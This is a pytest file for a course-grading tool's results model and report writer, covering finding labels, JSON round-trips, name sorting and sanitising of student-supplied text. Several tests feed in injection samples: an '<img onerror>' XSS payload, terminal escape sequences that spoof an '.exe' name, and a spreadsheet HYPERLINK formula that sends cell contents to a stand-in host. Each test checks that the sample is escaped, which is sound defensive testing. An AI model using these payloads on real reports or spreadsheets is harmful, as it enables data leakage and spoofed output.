"""coursetools.results: the one model of a student's grading, from worker to report.

Expected values are written out by hand from the dataclasses' documented fields.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

from coursetools.results import (
    ACTIONS,
    INFO,
    LABELS,
    CellResult,
    Finding,
    NotebookResult,
    StudentResult,
)

TIMEOUT = Finding("timeout", "cell ran longer than 30 s", "rnn_cells", "test_step")
STDERR = Finding("stderr", "wrote 3 lines to stderr", "rnn_cells")


def graded(notebook_findings=(), findings=(), errors=()) -> StudentResult:
    """ada's grading of one notebook with one 2-point test, and the worker's files."""
    notebook = NotebookResult(
        "rnn_cells", submitted_as="rnn_cells.ipynb", graded=True,
        cells={"test_step": CellResult(1.0, 2.0, failure="AssertionError: no",
                                       seconds=0.25)},
        comments={"answer": None}, findings=list(notebook_findings),
        autograded='{"cells": []}', feedback_html="<html></html>",
        feedback_source='{"cells": [1]}')
    return StudentResult("ada", "rnn", notebooks={"rnn_cells": notebook},
                         findings=list(findings), errors=list(errors))


def test_all_findings_lists_each_finding_once():
    """A finding recorded twice (submission and notebook) is one thing to read."""
    result = graded([TIMEOUT, STDERR, TIMEOUT], [TIMEOUT],
                    ["Traceback (most recent call last):\nRuntimeError: pool died"])
    assert result.all_findings() == [
        TIMEOUT, STDERR, Finding("grading_error", "RuntimeError: pool died")]


def test_a_student_with_only_stderr_needs_no_attention():
    """Writing to stderr is shown but not penalised (INFO); anything else is."""
    assert not graded().needs_attention()
    assert not graded([STDERR]).needs_attention()
    assert graded([STDERR, TIMEOUT]).needs_attention()
    assert graded(errors=["RuntimeError: pool died"]).needs_attention()


def test_finding_text_names_notebook_and_cell():
    """The report's one line: "notebook: message (cell grade_id)"."""
    assert TIMEOUT.text() == ("rnn_cells: cell ran longer than 30 s "
                              "(cell test_step)")
    assert STDERR.text() == "rnn_cells: wrote 3 lines to stderr"
    assert Finding("symlink", "x is a link").text() == "x is a link"
    no_id = Finding("error_outside_tests", "E", "nb", "cell 4")
    assert no_id.text() == "nb: E (cell 4)"


def test_each_finding_says_what_to_do_as_the_instructor_guide_does():
    """report.md's "what to do" column and the guide's table say the same: each
    code that needs a look has one action, and the guide's row naming its label
    gives that action."""
    guide = (Path(__file__).parents[1] / "book" / "instructor_guide.md").read_text()
    rows = [[c.strip() for c in line.strip("|").split("|")]
            for line in guide.split("| in the report | what happened | what to do |")[1]
            .split("\n\n")[0].splitlines()[2:]]
    for code, label in LABELS.items():
        holders = [action for action, codes in ACTIONS.items() if code in codes]
        assert len(holders) == (code not in INFO), code
        if holders:
            named = [row[2] for row in rows if label.split(" (")[0] in row[0]]
            assert named == holders, (code, label, named)
    assert Finding("stderr", "x").action == ""
    assert Finding("kernel_died", "x").action == "read the notebook"


def test_to_json_leaves_the_files_out_and_round_trips_the_rest():
    """The state file keeps scores and findings, not the worker's notebooks."""
    result = graded([TIMEOUT], [STDERR])
    data = json.loads(result.to_json())
    saved = data["notebooks"]["rnn_cells"]
    for name in ("autograded", "feedback_html", "feedback_source"):
        assert saved[name] is None
    assert saved["cells"]["test_step"] == {
        "score": 1.0, "max_score": 2.0, "needs_manual_grade": False,
        "failure": "AssertionError: no", "seconds": 0.25}
    assert result.notebooks["rnn_cells"].autograded == '{"cells": []}'  # unchanged
    back = StudentResult.from_json(result.to_json())
    expected = graded([TIMEOUT], [STDERR])
    for name in NotebookResult.FILES:
        setattr(expected.notebooks["rnn_cells"], name, None)
    assert back == expected


def test_text_from_a_submission_is_plain_text_in_report_md(tmp_path):
    """An error message the learner wrote: no section, row, link or HTML of its
    own in report.md, and every character of it still there to read."""
    from coursetools import report

    forged = ("x\n\n## Not graded\n\n| ada | plagiarism <img src=x onerror=alert(1)> "
              "[link](https://e.org) `code` *em* a\\b |")
    error = Finding("error_outside_tests", f"ValueError: {forged}", "rnn_cells")
    path = report.write(tmp_path, "rnn", {"eve": graded([error])},
                        {"eve": (1.0, 2.0)}, not_graded={"bob": forged})
    text = path.read_text()
    assert [line for line in text.splitlines() if line.startswith("#")] == [
        "# Grading report: rnn", "## Not graded", "## Needs a look", "### Details",
        "## Everyone"]
    table_rows = [line for line in text.splitlines() if line.startswith("|")]
    # two, four and three columns a row: no cell was split or added
    assert [line.count("|") - line.count("\\|") for line in table_rows] == [
        3, 3, 3, 5, 5, 5, 4, 4, 4]
    assert "| eve | 1 | error outside the tests | read the notebook |" in text
    forged_lines = [line for line in text.splitlines() if "plagiarism" in line]
    assert len(forged_lines) == 2  # bob's why, eve's details
    for line in forged_lines:  # each markup character is escaped
        line = line.split("plagiarism", 1)[1]
        assert not re.search(r"(?<!\\)[<>\[\]`*]", line.replace("\\\\", "")), line
    assert "\\<img src=x onerror=alert(1)\\>" in text
    # a bare address is no autolink either (GFM makes one of https:// and www.)
    assert "\\[link\\](https:\\/\\/e.org) \\`code\\` \\*em\\* a\\\\b \\|" in text


def test_terminal_escapes_from_a_submission_reach_no_terminal(tmp_path):
    """A file name made of escape sequences (ESC c clears the screen, ESC P
    swallows what follows, a carriage return rewrites the line) would let
    `cat report.md` show a forged report; every such character is shown as its
    escape, in report.md and report.csv alike, and the message stays readable."""
    from coursetools import report

    name = "\x1bc\x1bE\x1bM\x1b7\r\x07\x9b2J\u202egpj.exe\x1bPeaten"
    found = [Finding("extra_file", f"{name} was handed in beside the notebook")]
    report.write(tmp_path, "rnn", {"eve": graded(findings=found)}, {"eve": (1.0, 2.0)},
                 not_graded={"bob": f"ValueError: {name}"})
    for written in ("report.md", "report.csv"):
        text = (tmp_path / written).read_text()
        assert all(c.isprintable() for c in text.replace("\n", "")), written
        assert "x1bc" in text and "u202egpj.exe" in text and "x1bPeaten" in text



def test_no_cell_of_report_csv_is_a_spreadsheet_formula(tmp_path):
    """A file name or message from a submission that starts like a formula."""
    import csv

    from coursetools import report

    name = '=HYPERLINK("http://x.example?"&A3,"notes")'
    found = [Finding("extra_file", f"{name} was handed in beside the notebook")]
    results = {"eve": graded(findings=found), "@bob": graded()}
    report.write(tmp_path, "rnn", results, {"eve": (1.0, 2.0), "@bob": (2.0, 2.0)})
    with (tmp_path / "report.csv").open(newline="") as handle:
        rows = {row["student"]: row for row in csv.DictReader(handle)}
    assert set(rows) == {"eve", "'@bob"}
    assert rows["eve"]["details"] == "'" + found[0].text()
    assert rows["eve"]["score"] == "1.0"  # numbers are left alone
    assert "**eve**: =HYPERLINK" in (tmp_path / "report.md").read_text()


def test_a_grading_error_reaches_the_terminal_cut():
    """nbgrader's log can quote a kernel message of the student's making whole
    (a 2 MB one reached the terminal and report.md): each kept line is cut."""
    from coursetools.worker import _why

    log = "Traceback (most recent call last):\nNotebookValidationError: " + "F " * 10**6
    why = _why({"log": log, "error": "NbGraderException: see the above traceback"})
    assert why.startswith("Traceback") and "NotebookValidationError: F F" in why
    assert len(why) < 2000


def test_the_report_lists_students_as_a_person_sorts_names(tmp_path):
    """Byte order put "Zoë Ørsted" before "alice" (walkthrough 12)."""
    from coursetools import report

    names = ["Zoë Ørsted", "alice", "Émile", "bob"]
    path = report.write(tmp_path, "rnn", {n: graded([]) for n in names},
                        {n: (1.0, 2.0) for n in names})
    rows = [line.split(" | ")[0].strip("| ") for line in path.read_text().splitlines()
            if line.startswith("| ") and line.endswith(" | 1 |  |")]
    assert rows == ["alice", "bob", "Émile", "Zoë Ørsted"]
    assert report.by_name("Zoë") < report.by_name("zoe2") < report.by_name("Zoë3")
